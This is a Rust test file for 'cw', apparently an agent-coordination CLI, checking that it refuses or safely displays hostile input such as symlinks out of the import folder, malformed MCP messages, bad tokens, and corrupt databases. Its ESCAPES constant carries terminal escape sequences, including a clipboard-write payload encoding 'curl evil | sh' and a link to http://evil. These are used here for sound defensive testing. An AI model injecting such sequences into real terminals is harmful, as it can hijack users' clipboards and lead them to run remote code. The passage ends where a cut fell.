//! Hostile and clumsy input (issue 17): each test names the defect it guards against. The inputs
//! are what a careless user types or a prompt-injected agent sends; each gets a clear error and
//! loses nothing.

use std::os::unix::fs::symlink;

use cw::git::{self, GitError, Prepared};
use cw::service::{AddTask, ImportOptions, ServiceError};
use cw::workspace::Workspace;

use crate::coordinator::{edit_config, sim_env};
use crate::support::TestEnv;

fn rev(env: &TestEnv, name: &str) -> String {
    String::from_utf8(env.git(&["rev-parse", name]).stdout).unwrap().trim().to_owned()
}

// 1. cw never moves a branch that is checked out.

#[test]
fn cw_run_refuses_an_integration_branch_that_is_checked_out_naming_the_checkout() {
    let env = sim_env("");
    edit_config(&env, "integration_branch = \"cw/integration\"", "integration_branch = \"main\"");
    env.cw(&["task", "add", "Write a file", "--description", "write a.txt a"]).ok();
    let main_before = rev(&env, "main");
    let run = env.cw(&["run", "--agent-command", "sim", "--exit-when-done"]);
    let error = run.error(1);
    assert!(error.contains("the integration branch main is checked out in"), "{error}");
    assert!(error.contains(&env.root().display().to_string()), "{error}");
    assert_eq!(rev(&env, "main"), main_before, "main did not move");
    let state = env.cw(&["task", "list", "--json"]).json()[0]["state"].clone();
    assert_eq!(state, "ready", "the task was not started and failed");
}

#[test]
fn cw_run_validates_the_integration_branch_once_at_start() {
    let env = sim_env("");
    env.cw(&["task", "add", "One", "--description", "write a.txt a"]).ok();
    env.cw(&["task", "add", "Two", "--description", "write b.txt b"]).ok();
    let config = "integration_branch = \"cw/integration\"";
    for (bad, expected) in [
        ("\"\"", "is not a valid branch name"),
        ("\"../../x\"", "is not a valid branch name"),
        ("\"cw/missing\"", "the branch cw/missing does not exist"),
    ] {
        edit_config(&env, config, &format!("integration_branch = {bad}"));
        let run = env.cw(&["run", "--agent-command", "sim", "--exit-when-done"]);
        let error = run.error(1);
        assert!(error.contains(expected), "{bad}: {error}");
        edit_config(&env, &format!("integration_branch = {bad}"), config);
    }
    let states = env.cw(&["task", "list", "--json"]).json();
    assert!(states.as_array().unwrap().iter().all(|t| t["state"] == "ready"), "{states}");
}

#[test]
fn a_ref_move_is_refused_when_the_branch_was_checked_out_after_the_merge_was_computed() {
    let env = TestEnv::initialised();
    let location = Workspace::locate(&env.root()).unwrap().repo;
    env.git(&["checkout", "-q", "-b", "cw/a-t1", "cw/integration"]);
    env.write("a.txt", "a\n");
    env.git(&["add", "a.txt"]);
    env.git(&["commit", "-q", "-m", "a"]);
    env.git(&["checkout", "-q", "main"]);
    let Prepared::Ready(merge) =
        git::prepare_merge(&location, "cw/integration", "cw/a-t1", "merge t1").unwrap()
    else {
        panic!("a clean merge")
    };
    let before = rev(&env, "cw/integration");
    env.git(&["checkout", "-q", "cw/integration"]);
    let err =
        git::advance(&location, &git::WriteLock::acquire(&location).unwrap(), &merge, "merge t1")
            .unwrap_err();
    assert!(matches!(err, GitError::CheckedOut { .. }), "{err}");
    assert_eq!(rev(&env, "cw/integration"), before);
    let status = String::from_utf8(env.git(&["status", "--porcelain"]).stdout).unwrap();
    assert_eq!(status, "", "the user's checkout is untouched");
}

#[test]
fn cw_init_refuses_when_the_integration_branch_is_checked_out() {
    let env = TestEnv::repo();
    env.git(&["checkout", "-q", "-b", "cw/integration"]);
    let run = env.cw(&["init"]);
    assert!(run.error(1).contains("is checked out in"), "{run:?}");
    assert!(!env.root().join(".cw").exists(), "nothing half-made is left");
}

// 2. Terminal escape injection.

const ESCAPES: &str =
    "\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]8;;http://evil\x1b\\link";

#[test]
fn control_characters_in_titles_are_refused_with_the_rule() {
    let env = TestEnv::initialised();
    let run = env.cw(&["task", "add", "two\nlines"]);
    assert!(run.error(1).contains("a title is one line"), "{run:?}");
    let run = env.cw(&["task", "add", &format!("evil {ESCAPES}")]);
    assert!(run.error(1).contains("control character U+001B"), "{run:?}");
    assert_eq!(env.cw(&["task", "list", "--json"]).json(), serde_json::json!([]));
}

#[test]
fn untrusted_text_reaches_the_terminal_with_control_characters_visible() {
    let env = TestEnv::initialised();
    let service = env.service();
    let task = service
        .add_task(
            &cw::service::Caller::CLI,
            &AddTask {
                title: "An honest title".to_owned(),
                description: format!("details {ESCAPES}\nsecond line"),
                ..AddTask::default()
            },
        )
        .unwrap();
    let registration = service.register_agent("evil", None).unwrap();
    service
        .ask(
            registration.agent.id,
            &format!("question {ESCAPES}"),
            &[format!("opt {ESCAPES}")],
            None,
        )
        .unwrap();
    let sgr = regex::Regex::new("\x1b\\[[0-9;]*m").unwrap();
    for args in [
        vec!["task", "show", &task.id.to_string()],
        vec!["task", "list"],
        vec!["inbox"],
        vec!["inbox", "show", "q1"],
        vec!["status"],
    ] {
        let run = env.cw(&args);
        let out = run.ok();
        assert!(!out.contains('\x1b') && !out.contains('\x07'), "{args:?} printed raw: {out:?}");
        // Painted, the only escapes are cw's own colours (an SGR `ESC [ digits ; m`).
        let painted = env.cw(&[&["--color", "always"], args.as_slice()].concat());
        let out = painted.ok();
        assert!(out.contains("\x1b["), "{args:?} is painted: {out:?}");
        let unpainted = sgr.replace_all(out, "");
        assert!(!unpainted.contains('\x1b'), "{args:?} painted raw: {out:?}");
        assert!(!out.contains('\x07'), "{args:?} painted raw: {out:?}");
    }
    let shown = env.cw(&["task", "show", &task.id.to_string()]);
    assert!(shown.ok().contains("details \\e[2J\\e[H\\e]52;c;"), "{}", shown.stdout);
    assert!(shown.ok().contains("\nsecond line"), "a multi-line body keeps its newlines");
    let inbox = env.cw(&["inbox"]);
    assert!(inbox.ok().contains("question \\e[2J"), "{}", inbox.stdout);
    assert_eq!(inbox.ok().lines().filter(|l| l.starts_with("q1 ")).count(), 1, "one line each");
    let shown = env.cw(&["inbox", "show", "q1"]);
    assert!(shown.ok().contains("options: opt \\e[2J"), "{}", shown.stdout);
    assert!(env.cw(&["inbox", "show", "q9"]).error(1).contains("q9"));
    assert_eq!(env.cw(&["inbox", "show", "q1", "--json"]).json()["id"], "q1");
    // --json stays exact.
    let json = env.cw(&["task", "show", &task.id.to_string(), "--json"]).json();
    assert_eq!(json["description"], format!("details {ESCAPES}\nsecond line"));
}

// 3. Import never follows a symlink out of the folder.

fn planning_with_plan(env: &TestEnv) {
    env.write(
        ".planning/ROADMAP.md",
        "# Roadmap: R\n\n## Phases\n\n- [ ] **Phase 1: One** - first\n\n### Phase 1: One\n**Goal**: g\n**Plans**: 1 plan\n",
    );
    env.write(
        ".planning/phases/01-one/01-01-PLAN.md",
        "---\nphase: 01-one\nplan: 01\nwave: 1\ndepends_on: []\n---\n\n<tasks>\n<task type=\"auto\">\n<name>Real</name>\n<action>Do it.</action>\n</task>\n</tasks>\n",
    );
}

/// The one task an import made for the human about `file`, and that nothing else was read.
fn fix_task(env: &TestEnv, file: &str) -> String {
    let tasks = env.service().list_tasks(&Default::default()).unwrap().tasks;
    let fixes: Vec<&str> = tasks
        .iter()
        .filter(|t| t.needs_human && t.title.starts_with(&format!("Fix {file} — ")))
        .map(|t| t.title.as_str())
        .collect();
    assert_eq!(fixes.len(), 1, "one task for the human about {file}: {tasks:#?}");
    fixes[0].to_owned()
}

fn strict_import(env: &TestEnv) -> String {
    let strict = ImportOptions { strict: true, ..ImportOptions::default() };
    env.service().import(&env.root().join(".planning"), &strict).unwrap_err().to_string()
}

#[test]
fn import_never_reads_a_symlink_that_leaves_the_folder_and_names_it() {
    let env = TestEnv::initialised();
    planning_with_plan(&env);
    let secret = env.outer().join("id_ed25519");
    fs_err::write(&secret, "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n").unwrap();
    let link = env.root().join(".planning/phases/01-one/01-02-PLAN.md");
    symlink(&secret, &link).unwrap();
    let report =
        env.service().import(&env.root().join(".planning"), &ImportOptions::default()).unwrap();
    assert_eq!(report.tasks_created, 2, "the readable plan, and one task to fix the link");
    let fix = fix_task(&env, "phases/01-one/01-02-PLAN.md");
    assert!(fix.contains("is a link to") && fix.contains("outside the imported folder"), "{fix}");
    let listing = env.service().list_tasks(&Default::default()).unwrap();
    assert!(
        listing
            .tasks
            .iter()
            .all(|t| !t.description.contains("OPENSSH") && !t.metadata.contains("OPENSSH")),
        "the secret was never read"
    );
    let err = strict_import(&env);
    assert!(
        err.contains("01-02-PLAN.md is a link to") && err.contains("outside the imported folder"),
        "{err}"
    );

    // A symlinked phase directory pointing out of the folder is treated the same way.
    fs_err::remove_file(&link).unwrap();
    let outside = env.outer().join("elsewhere");
    fs_err::create_dir_all(&outside).unwrap();
    fs_err::write(outside.join("02-01-PLAN.md"), "---\nphase: 2\nplan: 1\n---\n<tasks></tasks>\n")
        .unwrap();
    symlink(&outside, env.root().join(".planning/phases/02-two")).unwrap();
    env.service().import(&env.root().join(".planning"), &ImportOptions::default()).unwrap();
    let fix = fix_task(&env, "phases/02-two/02-01-PLAN.md");
    assert!(fix.contains("outside the imported folder"), "{fix}");
    assert!(strict_import(&env).contains("outside the imported folder"));

    // Inside the folder, a link is fine.
    fs_err::remove_file(env.root().join(".planning/phases/02-two")).unwrap();
    let real = env.root().join(".planning/phases/01-one/01-01-PLAN.md");
    let moved = env.root().join(".planning/plan-source.md");
    fs_err::rename(&real, &moved).unwrap();
    symlink(&moved, &real).unwrap();
    let report =
        env.service().import(&env.root().join(".planning"), &ImportOptions::default()).unwrap();
    assert_eq!((report.tasks_created, report.needs_human), (0, 0), "{report:?}");
}

#[test]
fn import_names_fifos_and_binary_plan_files_in_a_task_for_the_human() {
    let env = TestEnv::initialised();
    planning_with_plan(&env);
    let fifo = env.root().join(".planning/phases/01-one/01-02-PLAN.md");
    let made = crate::support::command("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    env.service().import(&env.root().join(".planning"), &ImportOptions::default()).unwrap();
    let fix = fix_task(&env, "phases/01-one/01-02-PLAN.md");
    assert!(fix.contains("it is not a regular file"), "{fix}");
    assert!(strict_import(&env).contains("01-02-PLAN.md is not a regular file"));
    fs_err::remove_file(&fifo).unwrap();

    fs_err::write(&fifo, b"\x7fELF\x02\x01\x01\x00\x00\x00binary").unwrap();
    env.service().import(&env.root().join(".planning"), &ImportOptions::default()).unwrap();
    let fix = fix_task(&env, "phases/01-one/01-02-PLAN.md");
    assert!(fix.contains("it is binary, not text"), "{fix}");
    assert!(strict_import(&env).contains("01-02-PLAN.md is binary, not text"));
}

// 4. Limits hold on every path.

#[test]
fn import_keeps_a_task_over_the_description_limit_out_naming_file_and_line() {
    let env = TestEnv::initialised();
    planning_with_plan(&env);
    let huge = "x".repeat(cw::service::MAX_DESCRIPTION_BYTES + 1);
    env.write(
        ".planning/phases/01-one/01-02-PLAN.md",
        &format!(
            "---\nphase: 01-one\nplan: 02\n---\n\n<tasks>\n<task type=\"auto\">\n<name>Huge</name>\n<action>{huge}</action>\n</task>\n</tasks>\n"
        ),
    );
    let strict = ImportOptions { strict: true, ..ImportOptions::default() };
    let err = env.service().import(&env.root().join(".planning"), &strict).unwrap_err();
    assert!(matches!(err, ServiceError::Import(_)), "{err}");
    let text = err.to_string();
    assert!(text.contains("phases/01-one/01-02-PLAN.md:7"), "{text}");
    assert!(text.contains("the limit is 262144"), "{text}");
    env.service().import(&env.root().join(".planning"), &ImportOptions::default()).unwrap();
    let fix = fix_task(&env, "phases/01-one/01-02-PLAN.md:7");
    assert!(fix.contains("the limit is 262144"), "{fix}");
    let tasks = env.service().list_tasks(&Default::default()).unwrap().tasks;
    assert!(tasks.iter().all(|t| t.description.len() < 10_000), "nothing over the limit stored");
}

// 8. MCP stdio answers every line a client waits on.

/// A `cw mcp` on pipes: lines go in, answers come out, each wait with a deadline.
struct StdioServer {
    child: std::process::Child,
    stdin: std::process::ChildStdin,
    answers: std::sync::mpsc::Receiver<serde_json::Value>,
}

impl StdioServer {
    fn start(env: &TestEnv, token: Option<&str>) -> StdioServer {
        use std::io::BufRead;
        let mut command = env.cw_command(&env.root(), &["mcp"]);
        if let Some(token) = token {
            command.env("CW_TOKEN", token);
        }
        let mut child = command
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let stdin = child.stdin.take().unwrap();
        let stdout = std::io::BufReader::new(child.stdout.take().unwrap());
        let (send, answers) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in stdout.lines() {
                let Ok(line) = line else { return };
                let value = serde_json::from_str(&line).unwrap_or(serde_json::Value::String(line));
                if send.send(value).is_err() {
                    return;
                }
            }
        });
        StdioServer { child, stdin, answers }
    }

    fn send(&mut self, line: &[u8]) {
        use std::io::Write;
        self.stdin.write_all(line).unwrap();
        self.stdin.write_all(b"\n").unwrap();
        self.stdin.flush().unwrap();
    }

    #[track_caller]
    fn answer(&self, what: &str) -> serde_json::Value {
        self.answers
            .recv_timeout(std::time::Duration::from_secs(20))
            .unwrap_or_else(|_| panic!("no answer within 20 s to {what}"))
    }

    fn initialize(&mut self) -> serde_json::Value {
        self.send(br#"{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"raw","version":"0"}}}"#);
        self.answer("initialize")
    }
}

impl Drop for StdioServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn cw_mcp_answers_malformed_oversized_and_ill_typed_lines_instead_of_going_silent() {
    let env = TestEnv::initialised();
    let mut server = StdioServer::start(&env, None);
    server.send(br#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#);
    let early = server.answer("a request before initialize");
    assert_eq!(early["id"], 1);
    assert_eq!(early["error"]["code"], -32600);
    assert!(early["error"]["message"].as_str().unwrap().contains("send `initialize` first"));
    assert!(server.initialize()["result"]["serverInfo"].is_object());
    server.send(br#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#);

    server.send(br#"{"jsonrpc":"2.0","id":2,"method":"tools/list""#);
    let broken = server.answer("a line that is not JSON");
    assert_eq!(
        (broken["id"].clone(), broken["error"]["code"].clone()),
        (2.into(), (-32700).into())
    );
    server.send(br#"{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"status","arguments":{"x":"\ud800"}}}"#);
    let surrogate = server.answer("an invalid \\ud800 escape");
    assert_eq!(
        (surrogate["id"].clone(), surrogate["error"]["code"].clone()),
        (3.into(), (-32700).into())
    );
    server.send(br#"{"jsonrpc":"2.0","id":4,"method":"tools/call"}"#);
    let missing = server.answer("tools/call without params");
    assert_eq!(
        (missing["id"].clone(), missing["error"]["code"].clone()),
        (4.into(), (-32602).into())
    );
    server.send(br#"{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":["status"]}}"#);
    let ill_typed = server.answer("tools/call with an ill-typed name");
    assert_eq!(ill_typed["error"]["code"], -32602);
    let mut huge = br#"{"jsonrpc":"2.0","id":6,"method":"ping","params":{"pad":""#.to_vec();
    huge.extend(std::iter::repeat_n(b'x', 17 * 1024 * 1024));
    huge.extend(br#""}}"#);
    server.send(&huge);
    let too_long = server.answer("a line over the limit");
    assert_eq!(too_long["error"]["code"], -32700);
    assert!(too_long["error"]["message"].as_str().unwrap().contains("longer than"));
    // The connection still works.
    server.send(br#"{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"status","arguments":{}}}"#);
    let status = server.answer("status after the bad lines");
    assert_eq!(status["id"], 7);
    assert_eq!(status["result"]["isError"], false, "{status}");
}

// 10. The operator token and agents' tokens.

#[test]
fn a_garbage_token_fails_the_handshake_with_the_reason() {
    let env = TestEnv::initialised();
    let mut server = StdioServer::start(&env, Some("cwa_garbage"));
    let refused = server.initialize();
    assert_eq!(refused["id"], 0);
    let message = refused["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("the token is not valid for this repository"), "{refused}");
}

#[test]
fn an_operator_token_file_others_can_read_is_refused_with_the_chmod_to_run() {
    use std::os::unix::fs::PermissionsExt;
    let env = TestEnv::initialised();
    let path = env.root().join(".cw/operator.token");
    fs_err::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    let mut server = StdioServer::start(&env, None);
    let refused = server.initialize();
    let message = refused["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("can be read by others (mode 644)"), "{refused}");
    assert!(message.contains(&format!("chmod 600 {}", path.display())), "{refused}");
    drop(server);

    fs_err::set_permissions(&path, std::fs::Permissions::from_mode(0o600)).unwrap();
    fs_err::remove_file(&path).unwrap();
    let mut server = StdioServer::start(&env, None);
    let refused = server.initialize();
    let message = refused["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("operator token") && message.contains("is missing"), "{refused}");
    assert!(message.contains("run `cw init`"), "{refused}");
    drop(server);

    env.cw(&["task", "add", "Kept"]).ok();
    let run = env.cw(&["init"]);
    assert!(run.ok().contains("made again"), "{run:?}");
    assert!(path.is_file());
    let mode = fs_err::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    assert_eq!(
        env.cw(&["task", "list", "--json"]).json()[0]["title"],
        "Kept",
        "nothing else changed"
    );
    let mut server = StdioServer::start(&env, None);
    assert!(server.initialize()["result"].is_object());
}

#[test]
fn an_exited_agents_token_stops_working() {
    let env = TestEnv::initialised();
    let service = env.service();
    let registration = service.register_agent("short-lived", None).unwrap();
    service.authenticate(Some(&registration.token)).unwrap();
    service
        .record_agent_exit(registration.agent.id, cw::service::ExitKind::Exited, "exit 0")
        .unwrap();
    let err = service.authenticate(Some(&registration.token)).unwrap_err();
    assert!(matches!(err, ServiceError::UnknownToken), "{err}");
}

// 6, 7. One state, one message, one way out.

#[test]
fn a_missing_database_is_named_and_cw_init_makes_a_new_one_without_reusing_ids() {
    if crate::support::sqlite_only("a database file moved away") {
        return;
    }
    let env = sim_env("");
    let first = env.cw(&["task", "add", "First", "--description", "write a.txt a", "--json"]);
    assert_eq!(first.json()["id"], "t1");
    env.git(&["branch", "cw/first-t1", "cw/integration"]);
    env.git(&["branch", "cw/other-t7", "cw/integration"]);
    fs_err::rename(env.root().join(".cw/cw.db"), env.outer().join("cw.db.moved")).unwrap();
    for args in [vec!["task", "list"], vec!["status"]] {
        let run = env.cw(&args);
        let error = run.error(1);
        assert!(error.contains("cw.db is missing"), "{args:?}: {error}");
        assert!(error.contains("run `cw init`"), "{args:?}: {error}");
    }
    let config_before = fs_err::read_to_string(env.root().join(".cw/config.toml")).unwrap();
    let token_before = fs_err::read_to_string(env.root().join(".cw/operator.token")).unwrap();
    let run = env.cw(&["init"]);
    assert!(run.ok().contains("made again"), "{run:?}");
    assert_eq!(fs_err::read_to_string(env.root().join(".cw/config.toml")).unwrap(), config_before);
    assert_eq!(
        fs_err::read_to_string(env.root().join(".cw/operator.token")).unwrap(),
        token_before
    );
    let next = env.cw(&["task", "add", "After the loss", "--json"]).json();
    assert_eq!(next["id"], "t8", "no id a branch already carries");
    assert!(env.cw(&["init"]).stderr.contains("nothing changed"));
}

#[test]
fn a_zero_length_database_is_refused_as_corrupt_with_a_way_out_that_works() {
    if crate::support::sqlite_only("an empty database file") {
        return;
    }
    let env = TestEnv::initialised();
    env.cw(&["task", "add", "Lost"]).ok();
    let db = env.root().join(".cw/cw.db");
    for suffix in ["-wal", "-shm"] {
        let _ = fs_err::remove_file(env.root().join(format!(".cw/cw.db{suffix}")));
    }
    fs_err::write(&db, b"").unwrap();
    let run = env.cw(&["task", "list"]);
    assert!(run.error(1).contains("the file is empty (0 bytes)"), "{run:?}");
    assert!(run.stderr.contains("move it away and run `cw init`"), "{run:?}");
    let init = env.cw(&["init"]);
    assert!(init.error(1).contains("the file is empty"), "init names it too: {init:?}");
    fs_err::rename(&db, env.outer().join("cw.db.broken")).unwrap();
    env.cw(&["init"]).ok();
    env.cw(&["task", "list"]).ok();
}

#[test]
fn a_cw_that_is_a_file_or_a_dangling_link_or_a_db_that_is_a_directory_gets_one_way_out() {
    let env = TestEnv::initialised();
    let cw = env.root().join(".cw");
    fs_err::rename(&cw, env.outer().join("saved-cw")).unwrap();
    fs_err::write(&cw, "not a directory").unwrap();
    for args in [vec!["init"], vec!["task", "list"]] {
        let error = env.cw(&args).error(1).to_owned();
        assert!(error.contains(".cw is a file, not a directory"), "{args:?}: {error}");
        assert!(error.contains("move it away"), "{args:?}: {error}");
    }
    fs_err::remove_file(&cw).unwrap();
    symlink(env.outer().join("nowhere"), &cw).unwrap();
    for args in [vec!["init"], vec!["status"]] {
        let error = env.cw(&args).error(1).to_owned();
        assert!(error.contains("is a dangling symbolic link"), "{args:?}: {error}");
    }
    fs_err::remove_file(&cw).unwrap();
    fs_err::rename(env.outer().join("saved-cw"), &cw).unwrap();
    for suffix in ["", "-wal", "-shm"] {
        let _ = fs_err::remove_file(cw.join(format!("cw.db{suffix}")));
    }
    fs_err::create_dir(cw.join("cw.db")).unwrap();
    for args in [vec!["init"], vec!["task", "list"]] {
        let error = env.cw(&args).error(1).to_owned();
        assert!(error.contains("cw.db is a directory, not a file"), "{args:?}: {error}");
    }
    // The way out named works.
    fs_err::rename(cw.join("cw.db"), env.outer().join("db-dir")).unwrap();
    env.cw(&["init"]).ok();
    env.cw(&["task", "list"]).ok();
}

// 9. HTTP: slow clients are dropped; a body that is not JSON-RPC is a bad request.

#[test]
fn http_answers_a_malformed_body_400_and_drops_a_client_that_never_finishes_its_headers() {
    use std::io::{Read, Write};
    let env = TestEnv::initialised();
    let token = fs_err::read_to_string(env.root().join(".cw/operator.token")).unwrap();
    let server = env.start_server();
    let address = server.address();
    let bearer = format!("Authorization: Bearer {}", token.trim());
    let (status, body) = server.post(&[&bearer], "{not json");
    assert!(status.contains(" 400 "), "{status} {body}");
    assert!(body.contains("-32700"), "{body}");
    let (status, body) = server.post(&[&bearer], r#"{"hello":"world"}"#);
    assert!(status.contains(" 400 "), "{status} {body}");
    assert!(body.contains("-32600"), "{body}");

    let mut slow = std::net::TcpStream::connect(&address).unwrap();
    slow.set_read_timeout(Some(std::time::Duration::from_secs(30))).unwrap();
    slow.write_all(b"POST /mcp HTTP/1.1\r\nHost: ").unwrap();
    let started = std::time::Instant::now();
    let mut rest = Vec::new();
    // The server closes the connection (read returns) well before the 30 s deadline.
    let _ = slow.read_to_end(&mut rest);
    let waited = started.elapsed();
    assert!(waited < std::time::Duration::from_secs(25), "the slow client was kept");
    assert!(
        waited >= std::time::Duration::from_secs(4),
        "dropped by the header timeout: {waited:?}"
    );
}

// 16. Small ones.

#[test]
fn a_missing_c_directory_is_named_and_a_closed_pipe_exits_quietly() {
    let env = TestEnv::initialised();
    let run = env.cw(&["-C", "/nonexistent/dir", "status"]);
    assert_eq!(run.error(2), "error: -C /nonexistent/dir: the directory does not exist");
    for i in 0..300 {
        env.cw(&["task", "add", &format!("Task number {i} with a long enough title")]).ok();
    }
    let mut child = env
        .cw_command(&env.root(), &["task", "list"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    let code = output.status.code();
    assert!(code == Some(0) || code == Some(141), "{code:?}");
    assert_eq!(String::from_utf8_lossy(&output.stderr), "", "no message on a closed pipe");
    let run = env.cw(&["agent", "stop", "t3"]);
    assert!(run.error(2).contains("is not an agent id"), "{run:?}");
}

// 15. A dry run lists exactly what gc does.

#[test]
fn gc_dry_run_lists_exactly_what_gc_then_does() {
    use crate::agents::{add_task, wait_until};
    let env = crate::agents::with_agent("sim");
    // A failed task with committed, unmerged work: archived, then removed.
    let doomed = add_task(&env, "Doomed", "sim: fail it cannot be done");
    let agent = env.cw(&["agent", "spawn", &doomed, "--json"]).json();
    let kept_work = std::path::PathBuf::from(agent["worktree"].as_str().unwrap());
    fs_err::write(kept_work.join("attempt.txt"), "partial\n").unwrap();
    env.git_in(&kept_work, &["add", "attempt.txt"]);
    env.git_in(&kept_work, &["commit", "-q", "-m", "partial"]);
    // A failed task whose worktree the user deleted by hand: its branch still goes.
    let lost = add_task(&env, "Lost", "sim: fail gave up");
    let agent = env.cw(&["agent", "spawn", &lost, "--json"]).json();
    fs_err::remove_dir_all(agent["worktree"].as_str().unwrap()).unwrap();
    // A worktree made by hand and deleted: git's record of it is forgotten.
    let stray = env.root().parent().unwrap().join(format!("stray-{}", std::process::id()));
    env.git(&["worktree", "add", "-q", "-b", "stray", stray.to_str().unwrap()]);
    fs_err::remove_dir_all(&stray).unwrap();
    // A running agent: kept.
    let busy = add_task(&env, "Busy", "sim: hang");
    let running = env.cw(&["agent", "spawn", &busy, "--detach", "--json"]).json();
    wait_until(std::time::Duration::from_secs(20), "the hanging task is claimed", || {
        env.cw(&["task", "show", &busy, "--json"]).json()["state"] == "claimed"
    });

    let dry = env.cw(&["gc", "--dry-run"]).ok().to_owned();
    let real = env.cw(&["gc"]).ok().to_owned();
    let planned = dry.replace("would remove", "removed").replace("would archive", "archived");
    let planned = planned.replace("would forget", "forgot");
    assert_eq!(planned, real, "the dry run said:\n{dry}");
    assert_eq!(real.lines().filter(|l| l.starts_with("removed")).count(), 2, "{real}");
    assert_eq!(real.lines().filter(|l| l.starts_with("archived")).count(), 1, "{real}");
    assert!(real.contains(&format!("forgot {}", stray.display())), "{real}");
    assert!(real.contains("its agent is running"), "{real}");
    let again = env.cw(&["gc", "--dry-run"]).ok().to_owned();
    assert_eq!(again, env.cw(&["gc"]).ok(), "a second pass plans and does the same");
    assert!(!again.contains("remove"), "{again}");
    env.cw(&["agent", "stop", running["id"].as_str().unwrap()]).ok();
}

// 14. Stop and restart say what a restart continues, and a removed worktree is no dead end.

#[test]
fn stopping_an_agent_whose_task_is_merged_promises_nothing_and_restart_says_why() {
    let env = sim_env("");
    let task = crate::agents::add_task(&env, "One", "write a.txt a");
    crate::coordinator::run_to_end(&env, 1);
    assert_eq!(env.cw(&["task", "show", &task, "--json"]).json()["state"], "merged");
    let stop = env.cw(&["agent", "stop", "a1"]).ok().to_owned();
    assert!(!stop.contains("continues it"), "{stop}");
    assert!(stop.contains(&format!("its task {task} is merged: nothing to continue")), "{stop}");
    let restart = env.cw(&["agent", "restart", "a1"]).error(1).to_owned();
    assert!(
        restart.contains(&format!("agent a1 has nothing to continue: its task {task} is merged")),
        "{restart}"
    );
    assert!(!restart.contains("is gone"), "{restart}");
}

#[test]
fn restart_checks_out_a_worktree_removed_by_hand_again_with_its_commits() {
    use crate::agents::{add_task, wait_until};
    let env = crate::agents::with_agent("sim");
    let task = add_task(&env, "Busy", "sim: hang");
    let agent = env.cw(&["agent", "spawn", &task, "--detach", "--json"]).json();
    let id = agent["id"].as_str().unwrap().to_owned();
    let worktree = std::path::PathBuf::from(agent["worktree"].as_str().unwrap());
    let claimed = || env.cw(&["task", "show", &task, "--json"]).json()["state"] == "claimed";
    wait_until(std::time::Duration::from_secs(20), "the task is claimed", claimed);
    fs_err::write(worktree.join("work.txt"), "kept\n").unwrap();
    env.git_in(&worktree, &["add", "work.txt"]);
    env.git_in(&worktree, &["commit", "-q", "-m", "work so far"]);
    let stop = env.cw(&["agent", "stop", &id]).ok().to_owned();
    assert!(stop.contains(&format!("`cw agent restart {id}` continues it")), "{stop}");
    fs_err::remove_dir_all(&worktree).unwrap();

    let restart = env.cw(&["agent", "restart", &id]).ok().to_owned();
    assert!(restart.contains("restarted"), "{restart}");
    assert_eq!(fs_err::read_to_string(worktree.join("work.txt")).unwrap(), "kept\n");
    let head = env.git_in(&worktree, &["rev-parse", "--abbrev-ref", "HEAD"]);
    assert_eq!(String::from_utf8_lossy(&head.stdout).trim(), agent["branch"].as_str().unwrap());
    env.cw(&["agent", "stop", &id]).ok();
}

// 11. A read-only .cw/ or cw.db: reads work, writes say which file and what to do.

/// Runs cw as the owner of the repository who has lost write access to part of it. Root writes
/// whatever the permissions say, so as root the repository is handed to `nobody` and cw runs as
/// `nobody`.
fn as_owner(env: &TestEnv, args: &[&str]) -> crate::support::Run {
    use std::os::unix::process::CommandExt;
    let mut command = env.cw_command(&env.root(), args);
    if nix_is_root() {
        command.uid(65534).gid(65534);
    }
    crate::support::Run::from(&command.output().unwrap())
}

fn nix_is_root() -> bool {
    fs_err::metadata("/proc/self").map(|m| std::os::unix::fs::MetadataExt::uid(&m)).unwrap() == 0
}

fn hand_to_owner(env: &TestEnv) {
    use std::os::unix::fs::PermissionsExt;
    if !nix_is_root() {
        return;
    }
    fs_err::set_permissions(env.outer(), std::fs::Permissions::from_mode(0o755)).unwrap();
    for entry in walkdir(&env.outer()) {
        std::os::unix::fs::lchown(&entry, Some(65534), Some(65534)).unwrap();
    }
}

fn walkdir(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut found = vec![dir.to_owned()];
    for entry in fs_err::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() && !path.is_symlink() {
            found.extend(walkdir(&path));
        } else {
            found.push(path);
        }
    }
    found
}

fn set_mode(path: &std::path::Path, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    fs_err::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

#[test]
fn a_read_only_database_directory_or_shm_file_is_read_and_named_on_a_write() {
    if crate::support::sqlite_only("file permissions on the database") {
        return;
    }
    let env = TestEnv::initialised();
    env.cw(&["task", "add", "Kept", "--description", "stays"]).ok();
    hand_to_owner(&env);
    let cw_dir = env.root().join(".cw");
    let db = cw_dir.join("cw.db");
    let shm = cw_dir.join("cw.db-shm");
    let cases: [(&std::path::Path, u32, &std::path::Path); 3] =
        [(&db, 0o444, &db), (&cw_dir, 0o555, &cw_dir), (&shm, 0o444, &shm)];
    for (path, mode, culprit) in cases {
        if path == shm.as_path() {
            fs_err::write(&shm, vec![0u8; 32 * 1024]).unwrap();
            hand_to_owner(&env);
        }
        let old =
